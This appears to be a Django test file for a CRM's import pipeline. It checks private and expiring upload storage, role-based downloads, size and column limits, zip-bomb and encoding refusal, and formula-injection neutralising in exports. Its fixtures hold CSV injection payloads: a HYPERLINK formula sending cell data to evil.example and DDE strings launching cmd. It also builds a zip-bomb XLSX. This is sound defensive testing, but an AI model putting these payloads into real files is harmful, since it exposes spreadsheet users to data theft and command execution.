"""Issue 20, items 3, 8, 9, 17 and 18: import files are private, limited and short-lived, and no
spreadsheet the product writes carries a live formula.

Each test was written against the code before the fix and failed there.
"""
from __future__ import annotations

import csv
import importlib
import io
import re
import time
import tracemalloc
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import override_settings
from django.urls import Resolver404, clear_url_caches, resolve, reverse
from django.utils import timezone

from campaigns import services as campaign_services
from crm_site import settings as project_settings
from customers.models import Customer, Order
from intake.models import ImportJob
from intake.readers import FileFormatError, open_table
from intake.services.jobs import import_job_upload
from tests.intake.conftest import write_xlsx

pytestmark = pytest.mark.django_db

REPO = Path(__file__).resolve().parents[2]
RISKY = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
# What hostile cells look like: a formula, a DDE call, and the same behind a tab or a CR.
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-5+A1",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")


@pytest.fixture
def start(client, django_capture_on_commit_callbacks):
    """Start a draft job from its preview page; the task queued after commit runs here."""
    def do(job: ImportJob, fields: list[str]) -> ImportJob:
        data = {"action": "start", **{f"map-{i}": name for i, name in enumerate(fields)}}
        with django_capture_on_commit_callbacks(execute=True):
            client.post(reverse("intake:preview", args=[job.pk]), data)
        job.refresh_from_db()
        return job

    return do


def _upload(client, user, body: bytes, name: str = "people.csv", kind: str = "customers"):
    client.force_login(user)
    return client.post(reverse("intake:import"), {"kind": kind, "file": SimpleUploadedFile(name, body)})


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_live_formula(cells, where: str) -> None:
    live = [c for c in cells if isinstance(c, str) and c.startswith(RISKY) and not PLAIN_NUMBER.fullmatch(c)]
    assert not live, f"{where} writes formula cells: {live!r}"


# --- item 3: uploads and rejected rows are not public ----------------------------------------

def test_media_is_not_routed_even_with_debug_on():
    import crm_site.urls

    try:
        with override_settings(DEBUG=True):
            debug_urls = importlib.reload(crm_site.urls)
            clear_url_caches()
            with pytest.raises(Resolver404):
                resolve("/media/imports/rejected/2026/11/rejected-1.csv", urlconf=debug_urls)
    finally:
        importlib.reload(crm_site.urls)
        clear_url_caches()


def test_files_have_unguessable_names_and_only_import_roles_download_them(client, role_user, start):
    sales = role_user("Sales")
    body = b"customer_id,name,email\nC1,Jack Green,jack.green@example.com\nC2,Bad,not-an-email\n"
    response = _upload(client, sales, body, name="contacts-2026.csv")
    job = ImportJob.objects.get()
    assert response.status_code == 302
    stored = job.file.name
    assert "contacts" not in stored and not re.search(r"/\d{4}/\d{2}/", stored)
    assert re.fullmatch(r"imports/[0-9a-f]{32}\.csv", stored)
    job = start(job, ["customer_id", "name", "email"])
    assert job.rejected == 1 and re.fullmatch(r"imports/rejected/[0-9a-f]{32}\.csv", job.errors_file.name)

    file_url = reverse("intake:job-file", args=[job.pk])
    rejected_url = reverse("intake:job-rejected", args=[job.pk])
    assert not file_url.startswith("/media") and not rejected_url.startswith("/media")
    downloaded = client.get(file_url)
    assert downloaded.status_code == 200 and b"".join(downloaded.streaming_content) == body
    assert downloaded["Content-Disposition"].startswith("attachment")
    assert client.get(rejected_url).status_code == 200

    client.force_login(role_user("Service"))
    for url in (file_url, rejected_url, f"/media/{job.file.name}", f"/media/{job.errors_file.name}"):
        answer = client.get(url)
        assert answer.status_code in (403, 404), url
        assert b"jack.green" not in (b"".join(answer.streaming_content) if answer.streaming else answer.content)


# --- item 8: formula injection ---------------------------------------------------------------

def test_every_product_writer_goes_through_the_safe_writer():
    """A new CSV or XLSX writer that bypasses core/spreadsheets.py fails here."""
    pattern = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\.to_excel\(|openpyxl\.Workbook|"
                         r"from openpyxl import .*Workbook|xlsxwriter")
    # COPY to PostgreSQL is not a spreadsheet: it writes tab-separated text into the database.
    allowed = {"core/spreadsheets.py", "core/db.py"}
    offenders = []
    for path in REPO.rglob("*.py"):
        relative = path.relative_to(REPO).as_posix()
        if relative.split("/")[0] in ("tests", "bench", ".venv", "node_modules") or relative in allowed:
            continue
        if "/migrations/" in relative:
            continue
        if pattern.search(path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == []


def test_customer_export_neutralises_formulas(client, role_user):
    Customer.objects.bulk_create([Customer(external_id=f"X{i}", name=name, city=name, churn_probability=0.5)
                                  for i, name in enumerate(HOSTILE)])
    client.force_login(role_user("Sales"))
    response = client.get("/customers/export.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert_no_live_formula(_csv_cells(text), "the customer export")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["name"] for r in rows} == {"'" + name for name in HOSTILE}
    assert {r["churn_probability"] for r in rows} == {"0.5"}  # a number stays a number


def test_campaign_results_neutralise_formulas(client, role_user):
    Customer.objects.bulk_create([Customer(external_id=f"X{i}", name=name, value_segment="high",
                                           email=f"x{i}@example.org", marketing_consent=True)
                                  for i, name in enumerate(HOSTILE)])
    sales = role_user("Sales")
    draft = campaign_services.campaign_create(
        created_by=sales, audience={"value_segments": ["high"]},
        fields={"name": "Spring", "objective": "win_back", "kind": "marketing", "frequency_cap_days": 0,
                "control_share": 0})
    campaign = campaign_services.campaign_launch(campaign_id=draft.pk, launched_by=sales)
    client.force_login(sales)
    response = client.get(reverse("campaigns:results_csv", args=[campaign.pk]))
    assert response.status_code == 200
    cells = _csv_cells(response.content.decode())
    assert_no_live_formula(cells, "campaign results")
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in cells


def _hostile_orders_file() -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL)  # the input file, as an attacker would write it
    writer.writerow(["order_id", "customer_id", "ordered_at", "amount", "note"])
    writer.writerows([f"O{i}", "C404", "2024-01-05", "-5", cell] for i, cell in enumerate(HOSTILE))
    return buffer.getvalue().encode()


def test_rejected_rows_file_neutralises_formulas_and_keeps_numbers(client, role_user, tmp_path, start):
    sales = role_user("Sales")
    _upload(client, sales, _hostile_orders_file(), name="orders.csv", kind="orders")
    job = ImportJob.objects.get()
    job = start(job, ["order_id", "customer_id", "ordered_at", "amount", ""])
    assert job.rejected == len(HOSTILE)
    text = b"".join(client.get(reverse("intake:job-rejected", args=[job.pk])).streaming_content)
    text = text.decode("utf-8-sig")
    assert_no_live_formula(_csv_cells(text), "the rejected-rows file")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["note"] for r in rows] == ["'" + cell.strip() for cell in HOSTILE]  # cells are trimmed
    assert {r["amount"] for r in rows} == {"-5"}

    # The command's --rejected file is the same writer.
    source = tmp_path / "orders.csv"
    source.write_bytes(_hostile_orders_file())
    target = tmp_path / "rejected.csv"
    call_command("import_data", "orders", str(source), "--rejected", str(target), stdout=io.StringIO())
    assert_no_live_formula(_csv_cells(target.read_text(encoding="utf-8-sig")), "import_data --rejected")


# --- item 9: limits on uploads ----------------------------------------------------------------

def test_an_upload_over_the_size_limit_is_refused_as_it_arrives(client, role_user, settings):
    settings.IMPORT_MAX_UPLOAD_MB = 1
    body = b"customer_id,name\n" + b"C1,Name\n" * 200_000  # 1.6 MB
    response = _upload(client, role_user("Sales"), body)
    assert response.status_code == 400
    assert "at most 1 MB" in response.content.decode() or "larger than 1 MB" in response.content.decode()
    assert not ImportJob.objects.exists()
    assert not default_storage.exists("imports") or not default_storage.listdir("imports")[1]


def test_a_csv_cell_over_the_limit_is_refused_at_upload_naming_the_line(client, role_user):
    sales = role_user("Sales")
    # Under and over the csv module's default field limit (131,072), which used to be a 500.
    for size in (40_000, 200_000):
        body = b"customer_id,name\nC1,Fine\nC2," + b"x" * size + b"\n"
        response = _upload(client, sales, body)
        assert response.status_code == 400
        assert "Line 3 holds a cell of more than 32767 characters." in response.content.decode()
        assert not ImportJob.objects.exists()


def _xlsx_with_huge_cell(path: Path, text_size: int) -> Path:
    """An XLSX whose one text cell is ``text_size`` characters long, built by streaming into the
    zip, as an attacker would: it packs to a few hundred kilobytes at most."""
    small = write_xlsx(path.with_suffix(".small.xlsx"), [["customer_id", "name"], ["C1", "placeholder"]])
    with zipfile.ZipFile(small) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename != "xl/worksheets/sheet1.xml":
                target.writestr(info, data)
                continue
            before, after = data.split(b"placeholder")
            with target.open(info.filename, "w", force_zip64=True) as part:
                part.write(before)
                chunk = b"y" * (1024 * 1024)
                for _ in range(text_size // len(chunk)):
                    part.write(chunk)
                part.write(after)
    return path


def test_an_xlsx_with_a_huge_cell_is_refused_without_loading_it(tmp_path, settings):
    path = _xlsx_with_huge_cell(tmp_path / "one-cell.xlsx", 16 * 1024 * 1024)
    assert path.stat().st_size < 200_000
    tracemalloc.start()
    try:
        with open(path, "rb") as stream, pytest.raises(FileFormatError, match="more than 32767 characters"):
            open_table(stream, name=path.name)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB while refusing a 16 MB cell"


def test_an_xlsx_zip_bomb_is_refused_before_parsing(tmp_path):
    path = _xlsx_with_huge_cell(tmp_path / "bomb.xlsx", 64 * 1024 * 1024)
    started = time.monotonic()
    with open(path, "rb") as stream, pytest.raises(FileFormatError, match="zip bomb"):
        open_table(stream, name=path.name)
    assert time.monotonic() - started < 2


def test_uploads_and_rejected_files_expire_after_the_retention_period(client, role_user, settings, start):
    from intake.services.jobs import import_files_expire  # (new: the old code had none)

    settings.IMPORT_RETENTION_DAYS = 30
    sales = role_user("Sales")
    _upload(client, sales, b"customer_id,name,email\nC1,A,a@example.com\nC2,B,bad\n")
    job = ImportJob.objects.get()
    job = start(job, ["customer_id", "name", "email"])
    names = [job.file.name, job.errors_file.name]
    assert all(default_storage.exists(name) for name in names)
    ImportJob.objects.filter(pk=job.pk).update(created_at=timezone.now() - timedelta(days=31))

    assert import_files_expire() == 1
    job.refresh_from_db()
    assert not any(default_storage.exists(name) for name in names)
    assert (job.file.name, job.errors_file.name) == ("", "") and job.files_deleted_at is not None
    assert client.get(reverse("intake:job-rejected", args=[job.pk])).status_code == 404
    assert "deleted after 30 days" in client.get(reverse("intake:job", args=[job.pk])).content.decode()
    # One schedule holds the periodic work: the sweep is in it.
    assert any(entry["task"] == "intake.tasks.import_files_expire"
               for entry in project_settings.CELERY_BEAT_SCHEDULE.values())


# --- item 17: a file that changes encoding half way --------------------------------------------

def test_utf8_rows_then_one_gb18030_row_is_refused_before_saving_naming_the_line(tmp_path, role_user):
    rows = 12_000
    body = b"customer_id,name\n" + "".join(f"C{i},张伟{i}\n" for i in range(rows)).encode()
    body += "C-bad,李娜\n".encode("gb18030")
    with pytest.raises(FileFormatError, match=rf"^Line {rows + 2} is not UTF-8 text"):
        import_job_upload(kind="customers", upload=SimpleUploadedFile("mixed.csv", body), user=role_user("Sales"))
    path = tmp_path / "mixed.csv"
    path.write_bytes(body)
    with pytest.raises(Exception, match=rf"Line {rows + 2} is not UTF-8 text"):
        call_command("import_data", "customers", str(path), stdout=io.StringIO())
    assert not Customer.objects.exists() and not Order.objects.exists()


# --- item 18: ten thousand columns ----------------------------------------------------------

def test_ten_thousand_columns_are_refused_at_upload(client, role_user, settings):
    header = ",".join(["customer_id", "name", *(f"extra_{i}" for i in range(9_998))])
    body = (header + "\n" + ",".join(["C1", "A", *("x" * 9_998)]) + "\n").encode()
    started = time.monotonic()
    response = _upload(client, role_user("Sales"), body)
    elapsed = time.monotonic() - started
    assert response.status_code == 400
    assert f"has 10000 columns; at most {settings.IMPORT_MAX_COLUMNS} are accepted" in response.content.decode()
    assert not ImportJob.objects.exists()
    assert elapsed < 2
